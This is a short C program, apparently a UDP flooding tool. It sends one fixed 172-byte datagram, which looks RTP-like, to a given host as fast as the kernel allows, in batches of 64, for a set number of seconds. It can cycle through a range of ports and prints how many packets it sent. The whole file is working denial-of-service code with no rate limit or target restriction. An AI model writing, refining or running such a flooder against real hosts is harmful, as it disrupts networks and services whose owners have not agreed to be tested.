/* Sends the same datagram to an address as fast as it can be sent: flood HOST PORT SECONDS [LAST].
 * With LAST every port from PORT to LAST in turn. Tells how many were sent. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64 };

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc < 4)
        return 2;
    int first = atoi(argv[2]), last = argc > 4 ? atoi(argv[4]) : first, port = first;
    char packet[172] = {(char)0x80};
    struct sockaddr_in to[BATCH];
    struct iovec piece = {packet, sizeof packet};
    struct mmsghdr batch[BATCH];
    memset(to, 0, sizeof to);
    memset(batch, 0, sizeof batch);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    long sent = 0;
    double end = now() + atof(argv[3]);
    while (now() < end) {
        for (int i = 0; i < BATCH; i++) {
            to[i].sin_family = AF_INET;
            to[i].sin_port = htons(port);
            inet_pton(AF_INET, argv[1], &to[i].sin_addr);
            port = port < last ? port + 1 : first;
            batch[i].msg_hdr.msg_name = &to[i];
            batch[i].msg_hdr.msg_namelen = sizeof to[i];
            batch[i].msg_hdr.msg_iov = &piece;
            batch[i].msg_hdr.msg_iovlen = 1;
        }
        int done = sendmmsg(fd, batch, BATCH, 0);
        sent += done > 0 ? done : 0;
    }
    printf("%ld\n", sent);
    return 0;
}
